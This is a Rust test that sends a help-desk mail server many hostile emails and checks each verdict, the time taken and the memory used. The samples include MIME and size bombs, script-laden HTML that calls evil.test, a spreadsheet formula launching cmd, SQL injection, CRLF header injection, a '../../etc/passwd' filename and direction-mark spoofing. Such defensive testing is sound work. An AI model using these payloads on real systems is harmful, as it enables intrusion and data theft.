//! Messages that are made to break something: each gets its verdict within two seconds and without much memory.

use std::{
    fs,
    time::{Duration, Instant},
};

use shared::api::sessions::Role;

use super::{
    HELP, give,
    raw::{Raw, bare, file, mail, part},
    read, said, with_mail,
};

/// For one message, in a debug build on a busy machine.
const LONGEST: Duration = Duration::from_secs(2);
/// Memory above what the server and the message itself take, kilobytes.
const MEMORY_MAX: u64 = 96 * 1024;

/// A message, its name and what becomes of it.
type Hostile = (&'static str, Raw, &'static str);

fn from(name: &str) -> String {
    format!("{name}@evil.test")
}

fn plain(name: &str) -> Raw {
    mail(&from(name), HELP, "Вопрос о справке", "Текст")
}

fn nested_multiparts(levels: usize) -> Raw {
    let mut body = Vec::new();
    for level in 0..levels {
        body.extend(
            format!("--b{level}\r\nContent-Type: multipart/mixed; boundary=b{}\r\n\r\n", level + 1).bytes(),
        );
    }
    plain("deep").kind("multipart/mixed; boundary=b0", body)
}

fn structure() -> Vec<Hostile> {
    let nested = b"Content-Type: message/rfc822\r\n\r\n".repeat(10_000);
    let digest = b"Content-Type: multipart/digest; boundary=a\r\n\r\n--a\r\n\r\n".repeat(5000);
    let many: Vec<Vec<u8>> =
        (0..1000).map(|nth| file("application/zip", &format!("{nth}.zip"), "PK")).collect();
    let same = "--edge\r\nContent-Type: multipart/mixed; boundary=edge\r\n\r\n".repeat(3000);
    vec![
        ("10 000 parts deep", nested_multiparts(10_000), "quarantined: bounds"),
        ("nine parts deep", nested_multiparts(9), "quarantined: bounds"),
        (
            "a million headers",
            bare().header("From", "million@evil.test").head("A: b\r\n".repeat(1_000_000)),
            "quarantined: bounds",
        ),
        ("one endless header", plain("endless").header("X", vec![b'x'; 1024 * 1024]), "quarantined: bounds"),
        (
            "a header folded 5000 times",
            plain("folded").head(format!("X: a\r\n{}", " b\r\n".repeat(5000))),
            "quarantined: bounds",
        ),
        ("messages in messages", plain("nested").kind("message/rfc822", &nested), "new"),
        ("the same in base64", plain("packed").base64("message/rfc822", &nested), "new"),
        (
            "digests in digests",
            plain("digest").kind("multipart/digest; boundary=a", digest),
            "quarantined: bounds",
        ),
        ("a thousand attachments", plain("many").parts("multipart/mixed", &many), "quarantined: bounds"),
        (
            "the same boundary in itself",
            plain("same").kind("multipart/mixed; boundary=edge", same),
            "quarantined: bounds",
        ),
        (
            "a boundary of a megabyte",
            plain("boundary").kind(&format!("multipart/mixed; boundary={}", "b".repeat(1024 * 1024)), "x"),
            "quarantined: bounds",
        ),
        ("a multipart without boundary", plain("none").kind("multipart/mixed", "--\r\n\r\nx"), "new"),
        (
            "a part that never ends",
            plain("open").kind("multipart/mixed; boundary=a", "--a\r\n\r\nТекст"),
            "new",
        ),
        (
            "a million boundaries",
            plain("lines").kind("multipart/mixed; boundary=a", "--a\r\n".repeat(1_000_000)),
            "quarantined: bounds",
        ),
        (
            "a million lines that begin as one",
            plain("begins").kind("multipart/mixed; boundary=a", "--b\r\n".repeat(1_000_000)),
            "new",
        ),
        (
            "a part of a message",
            plain("partial").kind("message/partial; id=x; number=1; total=2", "x"),
            "new",
        ),
        (
            "a body that lies elsewhere",
            plain("external").kind("message/external-body; access-type=URL; URL=\"http://127.0.0.1/\"", "x"),
            "new",
        ),
    ]
}

fn sizes() -> Vec<Hostile> {
    let large = vec![b'A'; 9 * 1024 * 1024];
    vec![
        (
            "nine megabytes of base64",
            plain("base64").header("Content-Transfer-Encoding", "base64").kind("text/plain", &large),
            "new",
        ),
        (
            "broken base64",
            plain("broken").header("Content-Transfer-Encoding", "base64").kind("text/plain", "%%%%===="),
            "new",
        ),
        (
            "nine megabytes of a soft line break",
            plain("soft")
                .header("Content-Transfer-Encoding", "quoted-printable")
                .kind("text/plain", "=\r\n".repeat(3 * 1024 * 1024)),
            "new",
        ),
        (
            "a large attachment",
            plain("attached")
                .parts("multipart/mixed", &[file("image/png", "a.png", vec![0; 6 * 1024 * 1024])]),
            "new",
        ),
        ("larger than may be", plain("larger").body(vec![b'x'; 11 * 1024 * 1024]), "quarantined: bounds"),
        ("one line of nine megabytes", plain("line").body(&large), "new"),
        ("nine megabytes of tags", plain("tags").kind("text/html", "<b>".repeat(3 * 1024 * 1024)), "new"),
        ("a million quotes", plain("quotes").body("> ".repeat(1_000_000)), "new"),
        (
            "a zip bomb's name and beginning",
            plain("zip").parts("multipart/mixed", &[file("application/zip", "42.zip", b"PK\x03\x04\x14\0")]),
            "new",
        ),
        (
            "a picture of 2 500 000 000 pixels",
            plain("pixels").parts("multipart/mixed", &[file("image/png", "a.png", huge_png())]),
            "new",
        ),
        (
            "a name of 100 kilobytes",
            plain("name").parts("multipart/mixed", &[file("image/png", &"я".repeat(50_000), "x")]),
            "new",
        ),
        (
            "a name that climbs",
            plain("climbs").parts("multipart/mixed", &[file("image/png", "../../etc/passwd", "x")]),
            "new",
        ),
    ]
}

/// The head of a PNG that says 50 000 × 50 000.
fn huge_png() -> Vec<u8> {
    let mut png = opora_tests::api::png();
    png[16..24].copy_from_slice(&[0, 0, 0xc3, 0x50, 0, 0, 0xc3, 0x50]);
    png
}

fn texts() -> Vec<Hostile> {
    let word = "=?utf-8?Q?=D0=B0?= ";
    vec![
        (
            "another charset than it says",
            plain("charset").kind("text/plain; charset=utf-8", b"\xcf\xf0\xe8\xe2\xe5\xf2"),
            "new",
        ),
        ("a charset that is none", plain("nocharset").kind("text/plain; charset=\"\0../../x\"", "x"), "new"),
        (
            "UTF-7",
            plain("utf7").kind("text/plain; charset=utf-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
            "new",
        ),
        ("UTF-16 that is cut", plain("utf16").kind("text/plain; charset=utf-16le", b"\x1f\x04\x40"), "new"),
        (
            "NUL everywhere",
            bare()
                .header("From", from("nul"))
                .head(b"Sub\0ject: a\0b\r\n")
                .header("To", HELP)
                .body(b"a\0b\0\0c"),
            "new",
        ),
        (
            "line ends in the subject",
            mail(&from("crlf"), HELP, "=?utf-8?Q?Hello=0D=0ABcc:_victim@example.org?=", "x"),
            "new",
        ),
        (
            "line ends in the name",
            mail("=?utf-8?Q?A=0D=0ABcc:_b?= <crlfname@evil.test>", HELP, "Вопрос", "x"),
            "new",
        ),
        (
            "a bomb of encoded words",
            mail(&from("words"), HELP, &word.repeat(20_000), "x"),
            "quarantined: bounds",
        ),
        ("a small one", mail(&from("wordlet"), HELP, &word.repeat(4000), "x"), "new"),
        (
            "marks of direction",
            mail("\u{202e}gro.elpmaxe@nimda <direction@evil.test>", HELP, "\u{202e}txt.exe", "\u{202e}abc"),
            "new",
        ),
        (
            "a formula",
            mail("=cmd|'/c calc'!A1 <formula@evil.test>", HELP, "=HYPERLINK(\"http://x\")", "+1"),
            "new",
        ),
        ("SQL", mail(&from("sql"), HELP, "'); DROP TABLE ticket;--", "' OR 1=1"), "new"),
        ("script and pictures", plain("html").kind("text/html", HTML), "new"),
        (
            "another text in HTML",
            plain("two")
                .parts("multipart/alternative", &[part("text/plain", "", "Да"), part("text/html", "", HTML)]),
            "new",
        ),
        ("uuencode", plain("uu").body("Вот\r\nbegin 644 x.exe\r\nM1234\r\n`\r\nend\r\n"), "new"),
        (
            "winmail.dat",
            plain("tnef")
                .parts("multipart/mixed", &[file("application/ms-tnef", "winmail.dat", b"\x78\x9f\x3e\x22")]),
            "new",
        ),
        (
            "S/MIME",
            plain("smime")
                .base64("application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m", b"0\x80\x06"),
            "new",
        ),
        ("nothing at all", bare(), "quarantined: bounds"),
        ("noise", bare().head(b"\x80\xff\x00\x1b[31m\r\nno header here"), "quarantined: sender"),
        (
            "lonely carriage returns",
            bare().head(b"From: a@evil.test\rTo: b\rSubject: c\r\rx"),
            "quarantined: sender",
        ),
        ("a head and no body", mail(&from("nobody"), HELP, "Вопрос", ""), "new"),
        (
            "files only",
            bare()
                .header("From", from("files"))
                .parts("multipart/mixed", &[file("image/png", "a.png", opora_tests::api::png())]),
            "new",
        ),
    ]
}

const HTML: &str = "<html><head><style>@import url(//evil.test/x);a[href^='h']{background:url(//evil.test/y)}</style></head>\
    <body onload=alert(1)><p>Здравствуйте</p><script>alert(document.cookie)</script><svg><animate onbegin=alert(1)></svg>\
    <img src=\"https://evil.test/pixel.gif?u=1\" width=1><a href=\"javascript:alert(1)\">сюда</a>\
    <a href=\"data:text/html,<script>alert(1)</script>\">или сюда</a><form action=//evil.test><input></form></body></html>";

fn senders() -> Vec<Hostile> {
    let two = "Anna <a@evil.test>, Boris <b@evil.test>";
    vec![
        ("two senders", mail(two, HELP, "x", "y"), "quarantined: sender"),
        ("two headers of sender", plain("first").header("From", from("second")), "quarantined: sender"),
        ("a group", mail("Support: a@evil.test, b@evil.test;", HELP, "x", "y"), "quarantined: sender"),
        ("an empty group", mail("undisclosed-recipients:;", HELP, "x", "y"), "quarantined: sender"),
        ("nobody", bare().header("To", HELP).header("Subject", "x").body("y"), "quarantined: sender"),
        ("an empty sender", mail("<>", HELP, "x", "y"), "quarantined: sender"),
        ("an invisible mark", mail("a\u{200b}nna@evil.test", HELP, "x", "y"), "quarantined: sender"),
        (
            "an endless sender",
            mail(&format!("{}@evil.test", "a".repeat(70)), HELP, "x", "y"),
            "quarantined: sender",
        ),
        ("a quoted sender", mail("\"a b\"@evil.test", HELP, "x", "y"), "quarantined: sender"),
        ("an address of numbers", mail("a@[127.0.0.1]", HELP, "x", "y"), "quarantined: sender"),
        ("a domain of this machine", mail("root@localhost", HELP, "x", "y"), "quarantined: sender"),
        ("ourselves", mail(HELP, HELP, "x", "y"), "dropped: own"),
        ("ourselves with a tag", mail("Desk <help+2600000014.x@desk.test>", HELP, "x", "y"), "dropped: own"),
        ("the sender of our letters", mail("no-reply@localhost.localdomain", HELP, "Вопрос", "y"), "new"),
        ("our domain", mail("chief@desk.test", HELP, "x", "y"), "quarantined: own-domain"),
        ("a thousand recipients", mail(&from("thousand"), &"a@b.test, ".repeat(1000), "Вопрос", "y"), "new"),
        (
            "two tokens",
            plain("twotokens").header("Cc", format!("{}, {}", tagged('0'), tagged('1'))),
            "quarantined: token",
        ),
        ("a short token", plain("short").header("Cc", "help+2600000014.abc@desk.test"), "quarantined: token"),
        ("a made-up token", plain("madeup").header("Delivered-To", tagged('0')), "quarantined: token"),
    ]
}

fn tagged(digit: char) -> String {
    format!("help+2600000014.{}@desk.test", digit.to_string().repeat(26))
}

fn automatic() -> Vec<Hostile> {
    let report = [part("text/plain", "", "x"), part("message/delivery-status", "", "Action: failed\r\n")];
    vec![
        (
            "a vacation",
            plain("vacation").header("Auto-Submitted", "auto-replied (vacation)"),
            "dropped: automatic",
        ),
        ("a program", plain("program").header("auto-submitted", "AUTO-GENERATED"), "dropped: automatic"),
        ("an old vacation", plain("old").header("X-Autoreply", "yes"), "dropped: automatic"),
        (
            "a vacation by its subject",
            mail(&from("away"), HELP, "Автоответ: меня нет", "x"),
            "quarantined: automatic",
        ),
        ("a person who says so", plain("person").header("Auto-Submitted", "no"), "new"),
        (
            "a report of a stranger's letter",
            plain("report").parts("multipart/report; report-type=delivery-status", &report),
            "dropped: report",
        ),
        ("no way back", plain("null").header("Return-Path", "<>"), "dropped: report"),
        ("a list", plain("list").header("List-Id", "<x.evil.test>"), "quarantined: bulk"),
        ("bulk", plain("bulk").header("Precedence", "bulk"), "quarantined: bulk"),
        (
            "one that wants no answer",
            plain("quiet").header("X-Auto-Response-Suppress", "All"),
            "quarantined: bulk",
        ),
    ]
}

/// Resident memory now and at its highest, kilobytes.
fn memory(field: &str) -> u64 {
    let status = fs::read_to_string("/proc/self/status").unwrap_or_default();
    let line = status.lines().find(|line| line.starts_with(field)).unwrap_or_default();
    line.split_whitespace().nth(1).and_then(|number| number.parse().ok()).unwrap_or_default()
}

with_mail! {
    async fn hostile_messages_get_their_verdict(app: App) {
        let desk = app.staff(Role::Operator).await;
        let all: Vec<Hostile> =
            [structure(), sizes(), texts(), senders(), automatic()].into_iter().flatten().collect();
        assert!(all.len() >= 40, "{}", all.len());
        let mut wrong = Vec::new();
        let mut slowest = (Duration::ZERO, "");
        let mut widest = (0, "");
        for (nth, (name, raw, expected)) in all.into_iter().enumerate() {
            // What has no sender is told apart by its id.
            let raw = if expected == "quarantined: sender" { raw.id(&format!("<{nth}@evil.test>")) } else { raw };
            let bytes = raw.bytes();
            // From here on the highest mark counts anew.
            let _ = fs::write("/proc/self/clear_refs", "5");
            let before = memory("VmRSS:");
            let start = Instant::now();
            let taken = give(&app, bytes).await;
            let took = start.elapsed();
            let grew = memory("VmHWM:").saturating_sub(before);
            slowest = slowest.max((took, name));
            widest = widest.max((grew, name));
            if said(&taken) != expected {
                wrong.push(format!("{name}: {}, not {expected}", said(&taken)));
            }
            if took > LONGEST {
                wrong.push(format!("{name}: {took:?}"));
            }
            if grew > MEMORY_MAX {
                wrong.push(format!("{name}: {grew} kB"));
            }
            if let Some(number) = &taken.number {
                let seen = read(&desk, number).await;
                let bodies: String = seen.ticket.messages.iter().map(|message| message.body.as_str()).collect();
                let shown = format!("{} {} {} {bodies}", seen.name, seen.ticket.subject, seen.ticket.details.steps);
                for mark in ["\u{202e}", "\0", "alert(document", "evil.test/", "onbegin", "<img", "M1234"] {
                    if shown.contains(mark) {
                        wrong.push(format!("{name}: {mark:?} in {shown:.300}"));
                    }
                }
                if seen.ticket.subject.contains(['\r', '\n']) || seen.name.contains(['\r', '\n']) {
                    wrong.push(format!("{name}: a line end in {:?} or {:?}", seen.ticket.subject, seen.name));
                }
            }
        }
        println!("slowest {slowest:?}, widest {widest:?} kB");
        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
        assert!(opora::journal::verify(&app.state.db).await.expect("the database answers").is_ok());
    }
}
